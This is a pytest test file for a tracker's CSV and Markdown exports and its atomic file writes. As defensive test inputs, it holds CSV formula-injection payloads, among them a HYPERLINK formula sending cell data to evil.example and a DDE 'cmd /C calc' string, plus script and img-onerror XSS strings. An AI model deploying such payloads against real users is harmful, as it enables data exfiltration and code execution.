"""Exports that hostile titles cannot turn against the reader: CSV cells no spreadsheet runs as a
formula, Markdown that reads back as the same titles and statuses, files written whole or not at all
(issue 21, findings 4, 5 and 7)."""

from __future__ import annotations

import csv
import io
import os
import re
import resource
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import update

from tests.conftest import ROOT, Cli, run_tracker
from tracker import export, ingest
from tracker.outline.text import is_generic
from tracker.store import db as dbmod

LIST = "# List\n\n## Part\n\n" + "".join(f"- [entry {n}](https://e.example/{n})\n" for n in range(6))


def _titled(database: dbmod.Database, titles: list[str], tmp_path: Path) -> None:
    """Import six linked entries, then give them `titles` as a page or feed might (by the stored title)."""
    path = tmp_path / "list.md"
    path.write_text(LIST, encoding="utf-8")
    ingest.import_files(database, [path])
    with database.write() as conn:
        for number, title in enumerate(titles):
            conn.execute(update(dbmod.item_t).where(dbmod.item_t.c.url == f"https://e.example/{number}")
                         .values(title=title))


def _csv_rows(database: dbmod.Database) -> list[dict[str, str]]:
    with database.read() as conn:
        return list(csv.DictReader(io.StringIO(export.export_csv(conn), newline="")))


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_csv_cells_that_spreadsheets_run_are_prefixed(database: dbmod.Database, tmp_path: Path, title: str) -> None:
    _titled(database, [title], tmp_path)
    rows = _csv_rows(database)
    assert rows[0]["title"] == "'" + title
    assert rows[1]["title"] == "entry 1"


def test_other_csv_cells_are_left_alone(database: dbmod.Database, tmp_path: Path) -> None:
    titles = ["a = b", "C++ -- the language", "x@y", "'quoted'", "2-3"]
    _titled(database, titles, tmp_path)
    assert [row["title"] for row in _csv_rows(database)[:5]] == titles


_CHARS = st.sampled_from([*"ab 字《》<>[]()*_`\\&#!|~=+-@:;/.?\"'{}$%^", "vector<int>", "<img src=x>", "<script>",
                          "&amp;", "http://x.example/y", "**", "[x]", "《书》", "&#42;", "<!--", "-->"])
_TITLES = st.lists(_CHARS, min_size=1, max_size=12).map("".join).map(lambda t: " ".join(t.split())).filter(
    lambda t: bool(t) and not is_generic(t))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(titles=st.lists(_TITLES, min_size=6, max_size=6), done=st.lists(st.booleans(), min_size=6, max_size=6))
def test_markdown_export_reads_back_as_the_same_titles_and_statuses(
        tmp_path_factory: pytest.TempPathFactory, titles: list[str], done: list[bool]) -> None:
    folder = tmp_path_factory.mktemp("roundtrip")
    first = dbmod.open_db("sqlite:///" + str(folder / "a.db"))
    second = dbmod.open_db("sqlite:///" + str(folder / "b.db"))
    try:
        _titled(first, titles, folder)
        with first.write() as conn:
            for number, ticked in enumerate(done):
                status = "digested" if ticked else "unread"
                conn.execute(update(dbmod.item_t).where(dbmod.item_t.c.url == f"https://e.example/{number}")
                             .values(status=status))
        with first.read() as conn:
            text = export.export_markdown(conn)
        out = folder / "export.md"
        out.write_text(text, encoding="utf-8")
        ingest.import_files(second, [out])
        with second.read() as conn:
            back = {r.url: (r.title, r.status) for r in conn.execute(
                dbmod.item_t.select().where(dbmod.item_t.c.retired.is_(False)))}
        assert back == {f"https://e.example/{n}": (titles[n], "digested" if done[n] else "unread")
                        for n in range(6)}, text
    finally:
        first.close()
        second.close()


def test_markdown_export_keeps_angle_brackets_images_and_scripts_as_text(database: dbmod.Database,
                                                                           tmp_path: Path) -> None:
    titles = ["vector<int> in C++", 'An <img src=x onerror="alert(1)"> title', "<script>alert(1)</script>",
              "《深度 *学习*》 notes", "a_b_c and **bold**", "C# in 21 days #"]
    _titled(database, titles, tmp_path)
    with database.read() as conn:
        text = export.export_markdown(conn)
    assert re.search(r"(?<!\\)<(?:script|img)", text) is None  # HTML only escaped, never raw
    assert "vector\\<int\\> in C++" in text
    out = tmp_path / "export.md"
    out.write_text(text, encoding="utf-8")
    other = dbmod.open_db("sqlite:///" + str(tmp_path / "other.db"))
    try:
        ingest.import_files(other, [out])
        with other.read() as conn:
            back = [r.title for r in conn.execute(dbmod.item_t.select().order_by(dbmod.item_t.c.position))]
    finally:
        other.close()
    assert back == titles


def test_book_and_bracketed_entries_and_headings_read_back(cli: Cli, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    source = tmp_path / "list.md"
    source.write_text("# 《深度学习》 notes\n\n## C\\# and \\<T\\>\n\n- [x] 《C++ \\*primer\\*》\n"
                      "- [A \\<b\\> title?]\n- [x] [link](https://e.example/l)\n", encoding="utf-8")
    cli.json("import", str(source))
    before = {(i["title"], i["status"], i["section"]) for i in cli.json("list")}
    assert ("《C++ *primer*》", "digested", "《深度学习》 notes / C# and <T>") in before
    out = tmp_path / "export.md"
    cli("export", "--format", "markdown", "--out", str(out))
    monkeypatch.setenv("TRACKER_DB", str(tmp_path / "other.db"))
    cli.json("import", str(out))
    assert {(i["title"], i["status"], i["section"]) for i in cli.json("list")} == before


# --- files written whole or not at all ----------------------------------------------------------


def _fill(cli: Cli, tmp_path: Path, count: int) -> None:
    source = tmp_path / "big.md"
    source.write_text("# Big\n\n" + "".join(f"- [a long title for entry {n:05}](https://big.example/{n})\n"
                                            for n in range(count)), encoding="utf-8")
    cli.json("import", str(source))
    cli("mark", *(str(n) for n in range(1, count + 1)), "digested")  # for this week's report to list them


def _limited(max_bytes: int) -> None:
    # The process may write files up to max_bytes; past that a write fails (EFBIG) instead of killing it.
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (max_bytes, max_bytes))


@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["export", "--format", "markdown"],
                                     ["report", "weekly", "--format", "html"], ["report", "weekly"]])
def test_a_failed_write_leaves_the_old_file_whole(cli: Cli, tmp_path: Path, db_path: Path,
                                                  command: list[str]) -> None:
    _fill(cli, tmp_path, 700)
    out = tmp_path / "reports" / "out.txt"
    out.parent.mkdir()
    out.write_text("the old export\n" * 100, encoding="utf-8")
    old = out.read_bytes()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "TRACKER_DB": str(db_path)}
    result = subprocess.run([sys.executable, "-m", "tracker", *command, "--out", str(out)], capture_output=True,
                            text=True, env=env, preexec_fn=lambda: _limited(32 * 1024), timeout=120)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"error: cannot write {out}") and result.stderr.count("\n") == 1
    assert out.read_bytes() == old
    assert sorted(p.name for p in out.parent.iterdir()) == ["out.txt"]  # no temporary file left behind
    assert run_tracker(*command, "--out", str(out)).returncode == 0
    assert out.read_bytes() != old and len(out.read_bytes()) > 32 * 1024


def test_a_written_file_keeps_its_permissions_and_a_link_keeps_pointing(cli: Cli, tmp_path: Path) -> None:
    _fill(cli, tmp_path, 3)
    real = tmp_path / "real.csv"
    real.write_text("old\n", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    cli("export", "--format", "csv", "--out", str(link))
    assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("id,title")
    assert real.stat().st_mode & 0o777 == 0o640


@pytest.fixture
def interrupted_write(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """os.replace fails: as if the process died between writing the new file and putting it in place."""
    def fail(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    yield


def test_a_write_that_cannot_be_put_in_place_changes_nothing(tmp_path: Path, interrupted_write: None) -> None:
    from tracker.errors import UsageError
    from tracker.files import write_atomic

    target = tmp_path / "out.md"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(UsageError, match="No space left on device"):
        write_atomic(target, "new" * 1000)
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.md"]
